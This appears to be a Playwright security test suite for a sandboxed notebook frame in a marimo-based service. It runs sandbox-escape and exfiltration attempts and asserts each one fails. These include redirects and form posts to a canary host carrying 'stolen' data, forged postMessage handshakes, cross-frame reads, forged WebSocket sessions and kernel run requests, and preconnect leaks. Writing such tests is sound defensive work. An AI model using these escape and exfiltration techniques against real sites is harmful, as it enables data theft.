// The sealed frame under attack from inside, as a notebook's own script can attack it; and what is in sight of a person.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { FrameLocator, Page } from '@playwright/test'
import { type Canary, startCanary } from './canary.ts'
import { edit, expect, inside, notebookOf, openNotebook, output, runAll, signIn, test } from './fixtures.ts'
import { attack } from './hostile.ts'

let canary: Canary

test.beforeAll(async () => {
  canary = await startCanary()
})
test.afterAll(() => canary.stop())

const iframe = (page: Page, name: string) => page.locator(`iframe[title="Notebook ${name}"]`)
test('nothing a notebook’s script tries leaves the frame', async ({ person, client, stack }, info) => {
  test.slow() // sixty attempts, some of which only silence answers
  await (await client('Colleague')).notebook('hostile', notebookOf(attack(canary, stack.origin)))
  const page = await person('Colleague')
  let downloads = 0
  page.on('download', () => {
    downloads += 1
  })
  const frame = await openNotebook(page, 'hostile')
  await runAll(frame)
  const report = frame.locator('pre.attack')
  await expect(report).toBeAttached({ timeout: 120_000 })
  const results: Record<string, string> = JSON.parse((await report.textContent()) ?? '')
  expect(Object.keys(results).length).toBeGreaterThan(55)
  for (const [attempt, result] of Object.entries(results)) expect.soft(result, attempt).toMatch(/^(refused|silence)/)
  expect(canary.heard).toEqual([])
  expect(page.context().pages()).toHaveLength(1)
  expect(new URL(page.url()).origin).toBe(stack.origin)
  expect(downloads).toBe(0)
  await expect(iframe(page, 'hostile')).toHaveCount(1) // forged handshakes did nothing
  const open = canary.datagrams.reduce((sum, { length }) => sum + length, 0)
  const carried = canary.datagrams.some((datagram) => datagram.includes('stolen'))
  info.annotations.push({
    type: 'WebRTC',
    description: `${canary.datagrams.length} datagrams, ${open} bytes, data carried: ${carried}`,
  })
})

test('a second handshake ends the frame', async ({ person, client }) => {
  await (await client('Colleague')).notebook('handshake', notebookOf('"here"'))
  const page = await person('Colleague')
  await openNotebook(page, 'handshake')
  const first = await iframe(page, 'handshake').getAttribute('src')
  await (await inside(page, 'handshake')).evaluate(() => parent.postMessage({ type: 'scrydon-frame-ready' }, '*'))
  await expect(page.locator(`iframe[src="${first}"]`)).toHaveCount(0)
})

const WAYS_OUT: Record<string, (url: string) => void> = {
  'an address': (url) => {
    location.href = url
  },
  'a refresh': (url) => {
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${url}` }))
  },
  'a form, by the browser’s own submit': (url) => {
    const inner = document.body.appendChild(document.createElement('iframe')).contentWindow as Window & typeof globalThis
    const form = Object.assign(document.createElement('form'), { method: 'post', action: url })
    document.body.append(form)
    inner.HTMLFormElement.prototype.submit.call(form)
  },
  'another content host': () => {
    location.host = `${'s'.repeat(26)}${location.host.slice(location.host.indexOf('.'))}`
  },
  'a reload': () => location.reload(),
}

for (const [way, leave] of Object.entries(WAYS_OUT))
  test(`a frame that leaves by ${way} is ended, and nothing arrives anywhere`, async ({ person, client }) => {
    const name = `leaving by ${way}`
    await (await client('Colleague')).notebook(name, notebookOf('"here"'))
    const page = await person('Colleague')
    await openNotebook(page, name)
    const first = await iframe(page, name).getAttribute('src')
    const before = canary.heard.length
    await (await inside(page, name)).evaluate(leave, `${canary.origin}/left?data=stolen`).catch(() => undefined) // its world may be gone
    await expect(page.locator(`iframe[src="${first}"]`)).toHaveCount(0)
    expect(canary.heard.length).toBe(before)
  })

test('frames are strangers to each other and to the shell', async ({ person, client }) => {
  const colleague = await client('Colleague')
  await colleague.notebook('one', notebookOf('"first"'))
  await colleague.notebook('two', notebookOf('"second"'))
  const page = await person('Colleague')
  await openNotebook(page, 'one')
  await page.goBack()
  await openNotebook(page, 'two')
  const [one, two] = [await inside(page, 'one'), await inside(page, 'two')]
  expect(await one.evaluate(() => location.host)).not.toBe(await two.evaluate(() => location.host))
  await one.evaluate(() => {
    // biome-ignore lint/suspicious/noDocumentCookie: as a notebook's script would
    document.cookie = 'left=behind'
    localStorage.setItem('left', 'behind')
  })
  const found = await two.evaluate(() => [document.cookie, localStorage.getItem('left'), window.isSecureContext])
  expect(found).toEqual(['', null, true])
  const reach = (index: number) => {
    try {
      return parent.frames[index]?.document.title ?? 'none'
    } catch (error) {
      return (error as Error).name
    }
  }
  const seen = await Promise.all([0, 1, 2].map((index) => two.evaluate(reach, index)))
  expect(seen.filter((name) => name !== 'SecurityError' && name !== 'none')).toHaveLength(1) // itself
  await expect(iframe(page, 'two')).not.toHaveAttribute('aria-hidden', 'true')
  await expect(iframe(page, 'one')).toHaveAttribute('aria-hidden', 'true')
  expect(await iframe(page, 'one').evaluate((element: HTMLIFrameElement) => element.inert)).toBe(true)
  const sandbox = await iframe(page, 'two').getAttribute('sandbox')
  expect(sandbox?.split(' ').sort()).toEqual(['allow-forms', 'allow-same-origin', 'allow-scripts'])
})

const REFUSED =
  /export|download|share|package|secret|terminal|restart|shut ?down|copilot|\bai\b|agent|duplicate notebook|tutorial|files?$/i
const ALLOWED = /^(save file|hide all.*|show all.*)$/i

async function labels(frame: FrameLocator, selector: string): Promise<string[]> {
  const texts = await frame.locator(selector).filter({ visible: true }).allTextContents()
  return texts
    .map((text) => text.trim())
    .filter((text) => text !== '' && !ALLOWED.test(text.replace(/(Ctrl|Mod|Shift|Alt).*$/, '')))
}

test('no control in sight ends in a refusal', async ({ person, client }) => {
  await (await client('Colleague')).notebook(
    'controls',
    notebookOf('import pandas as pd\npd.DataFrame({"a": [1, 2]})', 'import missing_module_xyz'),
  )
  const page = await person('Colleague')
  const refusals: string[] = []
  page.on('console', (message) => {
    if (/Failed to handle request|403/.test(message.text())) refusals.push(message.text())
  })
  const frame = await openNotebook(page, 'controls')
  await runAll(frame)
  await expect(output(frame, 0).locator('table')).toBeVisible({ timeout: 30_000 })
  await expect(frame.getByTestId('export-button').filter({ visible: true })).toHaveCount(0)
  await expect(frame.getByRole('button', { name: 'Install' }).filter({ visible: true })).toHaveCount(0)
  const menu = frame.getByTestId('notebook-menu-dropdown')
  await menu.click()
  await expect(frame.getByRole('menuitem').filter({ visible: true }).first()).toBeVisible()
  for (const label of await labels(frame, '[role="menuitem"]')) expect.soft(label).not.toMatch(REFUSED)
  await page.keyboard.press('Escape')
  await frame.getByTestId('command-palette-button').click()
  await expect(frame.locator('[cmdk-item]').first()).toBeVisible()
  const commands = await labels(frame, '[cmdk-item]')
  expect(commands.length).toBeGreaterThan(20)
  for (const label of commands) expect.soft(label).not.toMatch(REFUSED)
  await page.keyboard.press('Escape')
  for (const key of ['files', 'packages', 'ai', 'secrets', 'terminal'])
    await expect(frame.locator(`[data-key="${key}"]`).filter({ visible: true })).toHaveCount(0)
  expect(refusals).toEqual([])
})

test('the shell’s keys and links work from inside the frame', async ({ person, client }) => {
  await (await client('Colleague')).notebook('keys', notebookOf('import marimo as mo\nmo.md("[away](https://example.org/)")'))
  const page = await person('Colleague')
  const frame = await openNotebook(page, 'keys')
  await runAll(frame)
  await frame.locator('.cm-content').first().click()
  await page.keyboard.press('Control+k')
  await expect(page.getByRole('combobox', { name: 'Find a notebook or command' })).toBeFocused() // until then Escape is the frame's
  await page.keyboard.press('Escape')
  const address = page.url()
  await frame.getByRole('link', { name: 'away' }).click()
  const asked = page.getByRole('alertdialog').or(page.getByRole('dialog'))
  await expect(asked.first()).toContainText('example.org')
  expect(page.url()).toBe(address)
  await expect(asked.first().locator(':focus')).toHaveCount(1)
  await page.keyboard.press('Escape')
  await expect(asked).toHaveCount(0)
  expect(page.context().pages()).toHaveLength(1)
  await edit(page, frame, 0, "f'still {6 * 7}'") // the frame is the same one, and in use
  await expect(output(frame, 0)).toContainText('still 42')
})

test('a change of person leaves no frame of the one before', async ({ person, client, stack }) => {
  await (await client('Colleague')).notebook('theirs', notebookOf('"here"'))
  const page = await person('Colleague')
  await openNotebook(page, 'theirs')
  const before = await page.locator('iframe').evaluateAll((frames) => frames.map((frame) => (frame as HTMLIFrameElement).src))
  expect(before.length).toBeGreaterThan(0)
  await page.getByRole('button', { name: /Colleague/ }).click()
  await page.getByRole('menuitem', { name: 'Sign out' }).click()
  await expect(page.getByRole('button', { name: 'Continue as Owner' })).toBeVisible()
  await expect(page.locator('iframe')).toHaveCount(0)
  await signIn(page, stack.origin, 'Owner')
  const after = await page.locator('iframe').evaluateAll((frames) => frames.map((frame) => (frame as HTMLIFrameElement).src))
  expect(after.filter((source) => before.includes(source))).toEqual([])
})

test('forged messages from a sibling, from a nested frame and from a foreign page are ignored', async ({
  person,
  client,
  stack,
}) => {
  const colleague = await client('Colleague')
  await colleague.notebook('aimed at', notebookOf('0'))
  await colleague.notebook('aiming', notebookOf('0'))
  const page = await person('Colleague')
  const target = await openNotebook(page, 'aimed at')
  await page.goBack()
  await openNotebook(page, 'aiming')
  const first = await iframe(page, 'aimed at').getAttribute('src')
  const forge = () => {
    const start = { type: 'scrydon-frame-start', mode: 'edit', theme: 'dark', name: 'forged' }
    const all = [parent, top, ...Array.from({ length: parent.frames.length }, (_, at) => parent.frames[at])]
    for (const each of all) if (each && each !== window) each.postMessage(start, '*', [new MessageChannel().port1])
    const nested = document.body.appendChild(document.createElement('iframe'))
    nested.srcdoc = '<script>top.postMessage({ type: "scrydon-frame-ready" }, "*")</scr' + 'ipt>'
    return new Promise<void>((done) => {
      nested.onload = () => done()
    })
  }
  await (await inside(page, 'aiming')).evaluate(forge)
  const clone = await page.context().newPage()
  await clone.goto(canary.origin)
  const opened = page.context().waitForEvent('page')
  await clone.evaluate((shell) => {
    const stolen = window.open(shell)
    for (const message of [
      { type: 'scrydon-frame-ready' },
      { type: 'scrydon-frame-start', mode: 'edit', theme: 'dark', name: 'forged' },
    ])
      stolen?.postMessage(message, '*', [new MessageChannel().port1])
  }, stack.origin)
  await (await opened).close()
  await clone.close()
  await page.goBack()
  await openNotebook(page, 'aimed at')
  expect(await iframe(page, 'aimed at').getAttribute('src')).toBe(first)
  await edit(page, target, 0, "f'untouched {6 * 7}'")
  await expect(output(target, 0)).toContainText('untouched 42')
})

test('a session of another id does not open from inside the frame: its stream and its commands are those of the one there is', async ({
  person,
  client,
}) => {
  await (await client('Colleague')).notebook('sessions', notebookOf('marker = 41', '0'))
  const page = await person('Colleague')
  await runAll(await openNotebook(page, 'sessions'))
  const forge = async () => {
    const socket = new WebSocket('/ws?session_id=s_fresh9&kiosk=true')
    const seen: string[] = []
    const shown = new Promise<void>((done) => {
      socket.onmessage = async ({ data }) => {
        const text = typeof data === 'string' ? data : await new Response(data).text()
        seen.push(JSON.parse(text).op)
        if (text.includes('forged 42')) done()
      }
    })
    const headers = { 'content-type': 'application/json', 'Marimo-Session-Id': 's_fresh9' }
    const body = JSON.stringify({ cellIds: ['MJUe'], codes: ["f'forged {marker + 1}'"] })
    const { status } = await fetch('/api/kernel/run', { method: 'POST', headers, body })
    await shown
    return { status, ready: seen.includes('kernel-ready'), completed: seen.includes('cell-op') }
  }
  const inFrame = await inside(page, 'sessions')
  expect(await inFrame.evaluate(forge)).toEqual({ status: 200, ready: false, completed: true })
  const other = () =>
    new Promise((done) => {
      new WebSocket('/terminal/ws').onclose = ({ code }) => done(code)
    })
  expect(await inFrame.evaluate(other)).toBe(1008)
})

// docs/security.md, “What is left”: what a browser does for a page before its policy is asked, or without asking it.
test('what is left open to a page: connections to hosts of its choosing; nothing is sent through them', async ({
  client,
  stack,
  playwright,
  launchOptions,
}, info) => {
  const folder = mkdtempSync(join(tmpdir(), 'net-'))
  const place = await startCanary()
  const log = join(folder, 'net.json')
  const alone = '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE *.localhost, EXCLUDE localhost, EXCLUDE 127.0.0.1'
  const quiet = (launchOptions.args ?? []).filter((flag) => flag !== '--disable-background-networking') // it takes hints away
  const browser = await playwright.chromium.launch({ ...launchOptions, args: [...quiet, alone, `--log-net-log=${log}`] })
  try {
    await (await client('Colleague')).notebook('opens', notebookOf('"here"'))
    const page = await signIn(await browser.newPage(), stack.origin, 'Colleague')
    await openNotebook(page, 'opens')
    const frame = await inside(page, 'opens')
    const links = (origin: string) => {
      for (const rel of ['preconnect', 'dns-prefetch'])
        document.head.append(
          Object.assign(document.createElement('link'), {
            rel,
            href: `${origin.replace('127.0.0.1', `${rel}.localhost`)}/?stolen`,
          }),
        )
      document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `${origin}/?stolen` }))
    }
    await frame.evaluate(links, place.origin)
    const navigates = (origin: string) => {
      for (const to of [origin, origin.replace('127.0.0.1', 'navigation.localhost')]) {
        const srcdoc = `<script>location = '${to}/?stolen'</scr` + 'ipt>'
        document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }))
        document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}/?stolen` }))
      }
    }
    await frame.evaluate(navigates, place.origin)
    await expect.poll(() => place.connections()).toBeGreaterThan(0)
    await browser.close()
    const written = readFileSync(log, 'utf8')
    const named = ['preconnect', 'dns-prefetch', 'navigation'].filter((name) => written.includes(`${name}.localhost`))
    info.annotations.push({ type: 'left open', description: `${place.connections()} connections; names by ${named.join(', ')}` })
    expect(place.heard).toEqual([])
  } finally {
    await browser.close()
    place.stop()
    rmSync(folder, { recursive: true, force: true })
  }
})
